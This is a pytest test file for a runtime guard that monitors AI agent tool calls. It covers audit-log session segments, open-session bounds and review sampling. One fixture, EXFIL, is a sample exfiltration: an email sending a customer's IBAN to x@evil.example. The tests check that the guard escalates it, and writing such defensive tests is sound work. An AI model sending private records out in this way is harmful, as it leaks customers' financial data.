"""Sessions that never close, and sessions used again after ``close()`` (docs/audit.md, docs/monitoring.md).

A closed session that decides again continues as a new segment, ``<id>#segment-<n>``, with its own ``session_end``
entry, so the monitor and review see what ran after the first close as a unit of its own.  A session still open
past the bound no longer holds the monitor's stream up, and ``carbguard monitor`` / ``carbguard review`` report it
with exit code 5.
"""

from __future__ import annotations

import copy
import json
import time
from pathlib import Path
from typing import Any

import pytest

from guard import InputError, Verdict
from guard.adapters.flow import Call, Tools, guarded
from guard.audit import AuditLog, read_entries, verify
from guard.cli import main
from guard.cli.deployed import OpenBound, SessionTally, deployed_sessions, realised_losses, sampled_terms
from guard.cli.open_sessions import open_past_bound
from guard.cli.review import picked_sessions
from guard.policy import Policy, load_policy, parse_policy
from guard.review import review_uniform
from guard.runtime import Guard

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "policies" / "examples" / "mail_agent.yaml"
CHECKSUM = "c" * 64
ARTIFACT = f"mail#{CHECKSUM[:12]}"
KEY = "0123456789abcdef-secret"
IBAN = "Customer: Lena Novak, IBAN DE44500105175407324931"
EXFIL = {"to": "x@evil.example", "subject": "r", "body": "IBAN DE44500105175407324931"}


@pytest.fixture(scope="module")
def mail() -> Policy:
    return load_policy(MAIL)


def _guard(policy: Policy, log: Path) -> Guard:
    return Guard(policy, threshold=0.5, artifact_id=ARTIFACT, audit=AuditLog(log, fsync=False))


def _ends(log: Path) -> list[dict[str, Any]]:
    return [e for e in read_entries(log) if e.get("event") == "session_end"]


def _reused(policy: Policy, log: Path) -> Guard:
    """Session ``t``: a private read, closed; then (a thread that runs again) the read sent out, closed again."""
    guard = _guard(policy, log)
    session = guard.session("t")
    session.observe_user("Read Lena Novak's record.")
    assert session.decide("read_record", {"name": "Lena Novak"}, "c1").verdict is Verdict.EXECUTE
    session.authorize("c1", "read_record", {"name": "Lena Novak"})
    session.observe_result("c1", IBAN)
    session.close()
    session.close()  # idempotent: no second entry for the same segment
    assert session.segments.closed and session.segments.number == 1
    sent = session.decide("send_email", EXFIL, "c2")
    assert sent.verdict is Verdict.ESCALATE  # the graph is kept: the read of the first segment still counts
    assert not session.segments.closed and session.segments.number == 2
    assert session.segments.audit_id == "t#segment-2"
    session.close()
    return guard


def test_reused_session_writes_a_second_segment_with_its_own_session_end(mail: Policy, tmp_path: Path) -> None:
    """Catches decisions after close() that no session_end ever covers (planted: ``Segments.reopen`` does nothing -> one
    session_end, and the escalated send is in no segment's statistic)."""
    log = tmp_path / "audit.jsonl"
    _reused(mail, log)
    entries = read_entries(log)
    decided = [(e["session"], e.get("segment"), e["call_id"]) for e in entries if "event" not in e]
    assert decided == [("t", None, "c1"), ("t#segment-2", 2, "c2")]
    first, second = _ends(log)
    assert first["session"] == "t" and "segment" not in first and first["proposals"] == 1
    assert first["intervened"] is False
    assert second["session"] == "t#segment-2" and second["segment"] == 2 and second["proposals"] == 1
    assert second["intervened"] is True and second["verdicts"] == ["escalate"]
    assert [e.get("event") for e in entries] == [None, "session_end", None, "session_end"]
    assert verify(log).ok  # one chain across segments


def test_a_label_of_the_first_segment_does_not_cover_the_second(mail: Policy, tmp_path: Path) -> None:
    """The monitor and review treat each segment as its own unit: a label given at the first close covers the first
    segment only, and the second waits for its own.  Catches a label keyed by the session id covering what ran
    later (planted: ``Segments.reopen`` does nothing -> one unit ``t`` whose label 'no harm' covers the escalated
    send)."""
    log = tmp_path / "audit.jsonl"
    _reused(mail, log)
    deployed = deployed_sessions(read_entries(log), CHECKSUM, 0.5)
    assert deployed.sessions == ("t", "t#segment-2")
    assert deployed.call_ids == (frozenset({"c1"}), frozenset({"c2"}))
    assert deployed.statistics[0] <= 0.5 < deployed.statistics[1]
    labels = tmp_path / "labels.jsonl"
    labels.write_text(json.dumps({"episode": "t", "harms": [], "mode": "override", "by": "r", "why": "ok"}) + "\n")
    assert realised_losses(str(labels), deployed) == (["t"], [0.0])  # the second segment is not labelled by it


def test_review_picks_each_segment_by_its_own_id(mail: Policy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Under review sampling each segment's session_end carries its own keyed pick, and the risk stream stops at the
    second segment until it has its own label.  Catches one pick for the whole session (planted: the pick keyed by
    ``session_id`` instead of the segment's id)."""
    monkeypatch.setenv("CARBGUARD_REVIEW_KEY", KEY)
    data = copy.deepcopy(mail.model_dump(mode="json"))
    first, second = review_uniform(KEY.encode(), "t"), review_uniform(KEY.encode(), "t#segment-2")
    data["review"] = {"rate": (first + second) / 2, "key_env": "CARBGUARD_REVIEW_KEY"}  # picks one of the two
    _reused(parse_policy(data, source="<review>"), tmp_path / "half.jsonl")
    picks = [(e["session"], e["review"]["picked"]) for e in _ends(tmp_path / "half.jsonl")]
    assert picks == [("t", first < second), ("t#segment-2", second < first)]
    data["review"]["rate"] = 1.0
    log = tmp_path / "audit.jsonl"
    _reused(parse_policy(data, source="<review>"), log)
    assert [(e["session"], e["review"]["picked"]) for e in _ends(log)] == [("t", True), ("t#segment-2", True)]
    assert [sid for sid, _, _ in picked_sessions(read_entries(log))] == ["t", "t#segment-2"]
    labels = tmp_path / "labels.jsonl"
    labels.write_text(json.dumps({"episode": "t", "harms": [], "mode": "override", "by": "r", "why": "ok"}) + "\n")
    order, terms, _, pending = sampled_terms(str(labels), deployed_sessions(read_entries(log), CHECKSUM, 0.5))
    assert order == ["t"] and terms == [0.0] and pending == 1


def test_session_as_context_manager_closes_on_error(mail: Policy, tmp_path: Path) -> None:
    """A custom loop (guard.adapters.flow) inside ``with guard.session(...)``: the session_end is written on the
    normal way out, when a tool raises, and on KeyboardInterrupt.  Catches a session left open by an exception
    (planted: ``Session.__exit__`` does not close)."""
    log = tmp_path / "audit.jsonl"
    guard = _guard(mail, log)
    tools = Tools(lambda call, args: (call.tool, args), lambda out: (str(out), "ok"), lambda text: None, 2)

    def run(payload: Any) -> Any:
        tool, _ = payload
        if tool == "send_email":
            raise RuntimeError("smtp down")
        if tool == "read_inbox":
            raise KeyboardInterrupt
        return IBAN

    with guard.session("ok") as session:
        guarded(session, Call("read_record", {"name": "Lena Novak"}, "c1"), tools, run)
    with pytest.raises(RuntimeError), guard.session("error") as session:
        guarded(session, Call("send_email", {**EXFIL, "body": "hi"}, "c1"), tools, run)
    with pytest.raises(KeyboardInterrupt), guard.session("interrupt") as session:
        guarded(session, Call("read_inbox", {}, "c1"), tools, run)
    assert [(e["session"], e["proposals"]) for e in _ends(log)] == [("ok", 1), ("error", 1), ("interrupt", 1)]


# --------------------------------------------------------------------------- open past the bound


def _open_then_closed(policy: Policy, log: Path) -> None:
    """``A`` decides and never closes; ``B`` and ``C`` start after it and close."""
    guard = _guard(policy, log)
    guard.session("A").decide("read_inbox", {}, "a1")
    for sid in ("B", "C"):
        session = guard.session(sid)
        session.decide("read_inbox", {}, f"{sid}1")
        session.decide("read_inbox", {}, f"{sid}2")
        session.close()


def test_open_session_past_the_bound_no_longer_holds_the_stream(mail: Policy, tmp_path: Path) -> None:
    """Within the bound an open session still holds the stream up (the closed ones behind it wait); past it, it
    enters at its place with the statistic of its decided calls, and the later closed sessions are processed.
    Catches a monitor that goes quiet behind an abandoned session (planted: ``bound.past`` always False -> the
    stream stays empty), or skips it (planted: stale sessions cut out -> stream B, C)."""
    log = tmp_path / "audit.jsonl"
    _open_then_closed(mail, log)
    entries = read_entries(log)
    within = deployed_sessions(entries, CHECKSUM, 0.5, OpenBound(entries=100, seconds=None))
    assert within.sessions == () and within.blocked_by == "A" and within.waiting == 2 and within.open_past_bound == ()
    past = deployed_sessions(entries, CHECKSUM, 0.5, OpenBound(entries=6, seconds=None))
    assert past.sessions == ("A", "B", "C") and past.open_past_bound == ("A",) and past.blocked_by is None
    assert past.call_ids[0] == frozenset({"a1"})
    now = time.time() + 7200  # no entry of A for two hours
    aged = deployed_sessions(entries, CHECKSUM, 0.5, OpenBound(entries=100, seconds=3600, now=now))
    assert aged.open_past_bound == ("A",) and aged.sessions == ("A", "B", "C")


@pytest.fixture(scope="module")
def artifact(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """An artifact calibrated on the fixture episodes of the seven-tool assistant, and its policy."""
    fix = ROOT / "tests" / "fixtures" / "episodes"
    out = tmp_path_factory.mktemp("art") / "a.json"
    policy, episodes = fix / "assistant_policy.yaml", fix / "assistant.jsonl"
    argv = ["calibrate", "--policy", str(policy), "--episodes", str(episodes), "--alpha", "0.3", "--out", str(out)]
    assert main(argv) == 0
    return policy, out


def _assistant_log(artifact: tuple[Path, Path], log: Path) -> None:
    from guard.artifact import load_artifact

    policy = load_policy(artifact[0])
    art = load_artifact(artifact[1], policy)
    guard = Guard(policy, threshold=art.threshold, artifact_id=art.artifact_id, audit=AuditLog(log, fsync=False))
    first = guard.session("Z")
    first.decide("read_file", {"path": "docs/plan.md"}, "z1")
    first.close()
    guard.session("A").decide("read_file", {"path": "docs/plan.md"}, "a1")  # never closed
    for sid in ("B", "C"):
        session = guard.session(sid)
        session.decide("read_file", {"path": "docs/plan.md"}, f"{sid}1")
        session.close()


def test_monitor_and_review_report_open_sessions_with_exit_5(
    artifact: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`carbguard monitor` past the bound processes B and C after the open A (Z closed before it), names A and
    exits 5; within the bound it waits for A as before (exit 0); `carbguard review` lists A and exits 5.  Catches
    a monitor that exits 0 and stays silent behind an open session (planted: ``EXIT_OPEN`` never returned -> exit
    0)."""
    log = tmp_path / "audit.jsonl"
    _assistant_log(artifact, log)
    base = ["monitor", str(log), "--artifact", str(artifact[1]), "--json"]
    capsys.readouterr()
    assert main(base) == 0  # within the default bound: A may still be running, B and C wait for it
    out = json.loads(capsys.readouterr().out)
    assert out["deployed"]["n"] == 1 and out["first_open_session"] == "A" and out["waiting_sessions"] == 2
    assert out["open_past_bound"] == []
    assert main([*base, "--open-bound", "3"]) == 5
    out = json.loads(capsys.readouterr().out)
    assert out["open_past_bound"] == ["A"] and out["deployed"]["n"] == 4 and out["first_open_session"] is None
    assert main([*base[:-1], "--open-bound-seconds", "0.001"]) == 5
    text = capsys.readouterr().out
    assert "WARNING: 1 session(s) still open past the bound" in text and "'A'" in text
    assert main(["review", str(log), "--open-bound", "3"]) == 5
    captured = capsys.readouterr()
    assert "A\tOPEN past the bound" in captured.out and "still open past the bound" in captured.err
    assert main(["review", str(log)]) == 0


# --------------------------------------------------------------------------- one id, two runs


def _conversation(guard: Guard, sid: str) -> None:
    """One conversation run twice under ``sid``: an exfiltration the gate escalates, then a benign read."""
    with guard.session(sid) as session:
        session.observe_user("Read Lena Novak's record.")
        session.decide("read_record", {"name": "Lena Novak"}, "c1")
        session.authorize("c1", "read_record", {"name": "Lena Novak"})
        session.observe_result("c1", IBAN)
        assert session.decide("send_email", EXFIL, "c2").verdict is Verdict.ESCALATE
    with guard.view("shadow").session(sid) as session:  # a view of the guard: the same segment book
        session.observe_user("Read Lena Novak's record.")
        session.decide("read_record", {"name": "Lena Novak"}, "c1")


def test_n_conversations_run_twice_under_one_id_are_2n_units(mail: Policy, tmp_path: Path) -> None:
    """Forty conversations, each run twice under one id through the Guard API (an escalated exfiltration, then a
    benign run): the second ``guard.session(id)`` starts the id's next segment, so the monitor sees 80 units at
    intervention rate 0.5, and a labelled first run does not cover the second.

    Catches a reused id writing a second unit under the same ``session`` value (planted: `Guard.session` builds the
    Session without the guard's segment book -> 40 units at rate 0.000, the later session_end overwriting the
    escalated one), and a view with a book of its own (planted: `segment_book` left out of `Guard.SHARED`)."""
    log = tmp_path / "audit.jsonl"
    guard = _guard(mail, log)
    for k in range(40):
        _conversation(guard, f"conv-{k}")
    deployed = deployed_sessions(read_entries(log), CHECKSUM, 0.5)
    assert deployed.sessions == tuple(u for k in range(40) for u in (f"conv-{k}", f"conv-{k}#segment-2"))
    rate = sum(s > 0.5 for s in deployed.statistics) / len(deployed.statistics)
    assert len(deployed.statistics) == 80 and rate == 0.5
    assert [d > 0.5 for d in deployed.statistics[:2]] == [True, False]


@pytest.mark.parametrize(
    "bad",
    ["a#segment-2", "#segment-", "x#segment-3#y", "run#run-2", "#run-", "", 7, None, b"conv"],
)
def test_reserved_markers_and_non_strings_are_refused_as_session_ids(mail: Policy, bad: Any) -> None:
    """An id holding ``#segment-`` or ``#run-`` (it would pass for another session's later segment or run in the
    audit log), an empty id, or a non-string: an InputError naming what is wrong, from the guard and its views.

    Catches: ids with a reserved marker accepted (planted: `check_session_id` not called in `Guard.session` ->
    a session ``a#segment-2`` merges with session ``a``'s second segment in the monitor)."""
    guard = Guard(mail, threshold=0.5)
    for opener in (guard, guard.view("shadow")):
        with pytest.raises(InputError) as raised:
            opener.session(bad)
        text = str(raised.value)
        assert ("reserved" in text and "#" in text) if isinstance(bad, str) and bad else "non-empty string" in text
    assert guard.session("a#segment").session_id == "a#segment"  # the marker is '#segment-' / '#run-' only


# (audit session id, event: "call" or "end", score / stop_max) of one entry
Row = tuple[str, str, float]
UNIT_CASES: list[tuple[str, list[Row], list[tuple[str, float]]]] = [
    ("two runs, one after the other", [("X", "call", 0.9), ("X", "end", 0.9), ("X", "call", 0.1), ("X", "end", 0.1)],
     [("X", 0.9), ("X#run-2", 0.1)]),
    ("a second session_end alone", [("X", "end", 0.9), ("X", "end", 0.1)], [("X", 0.9), ("X#run-2", 0.1)]),
    ("three runs", [("X", "end", 0.9), ("X", "end", 0.1), ("X", "end", 0.2)],
     [("X", 0.9), ("X#run-2", 0.1), ("X#run-3", 0.2)]),
    ("an id another unit holds is skipped", [("X#run-2", "end", 0.3), ("X", "end", 0.9), ("X", "end", 0.1)],
     [("X#run-2", 0.3), ("X", 0.9), ("X#run-3", 0.1)]),
    ("a later derived id's literal twin", [("X", "end", 0.9), ("X", "end", 0.1), ("X#run-2", "end", 0.3)],
     [("X", 0.9), ("X#run-2", 0.1), ("X#run-2#run-2", 0.3)]),
    ("two runs at once merge up to the first end", [("X", "call", 0.9), ("X", "call", 0.1), ("X", "end", 0.9),
     ("X", "end", 0.1)], [("X", 0.9), ("X#run-2", 0.1)]),
    ("segments and runs", [("X", "end", 0.9), ("X#segment-2", "end", 0.1), ("X", "end", 0.2)],
     [("X", 0.9), ("X#segment-2", 0.1), ("X#run-2", 0.2)]),
]  # fmt: skip


def _unit_entries(rows: list[Row]) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for k, (sid, event, value) in enumerate(rows):
        entry: dict[str, Any] = {"session": sid, "artifact": ARTIFACT, "ts": float(k)}
        if event == "end":
            entry |= {"event": "session_end", "stop_max": value, "review": {"picked": True, "p": 1.0}}
        else:
            entry |= {"call_id": f"c{k}", "score": value, "tool": "send_email", "verdict": "execute"}
        out.append(entry)
    return out


@pytest.mark.parametrize(("rows", "units"), [c[1:] for c in UNIT_CASES], ids=[c[0] for c in UNIT_CASES])
def test_a_second_session_end_of_one_id_is_a_new_unit_never_an_overwrite(
    rows: list[Row], units: list[tuple[str, float]]
) -> None:
    """Runs that did not share a guard (two processes writing one log) reuse an id: every entry after the id's
    ``session_end`` starts a new unit, ``<id>#run-<k>``, in the monitor (fed at once and one entry at a time),
    in `carbguard review`'s picks and in the open-session check; a unit id is never given out twice.

    Catches: the later session_end overwriting the earlier (planted: `UnitIds.of` ignores ``ending`` -> one
    unit X with the later statistic), and two units under one id (planted: the `while unit in self.used` skip
    removed -> the literal ``X#run-2`` and X's second run merge)."""
    entries = _unit_entries(rows)
    deployed = deployed_sessions(entries, CHECKSUM, 0.5)
    assert list(zip(deployed.sessions, deployed.statistics, strict=True)) == units
    tally = SessionTally(CHECKSUM)
    for entry in entries:
        tally.add([entry])
    assert tally.deployed(0.5).sessions == deployed.sessions
    assert [sid for sid, _, _ in picked_sessions(entries)] == [u for u, _ in units]
    late = {"session": rows[-1][0], "artifact": ARTIFACT, "call_id": "late", "score": 0.1}
    reopened = [*entries, late, *_unit_entries([("other", "end", 0.1)])]  # the late run: open, one entry back
    late_units = deployed_sessions(reopened, CHECKSUM, 0.5)
    assert late_units.blocked_by not in deployed.sessions and late_units.sessions == deployed.sessions
    assert open_past_bound(reopened, OpenBound(entries=1, seconds=None)) == [late_units.blocked_by]
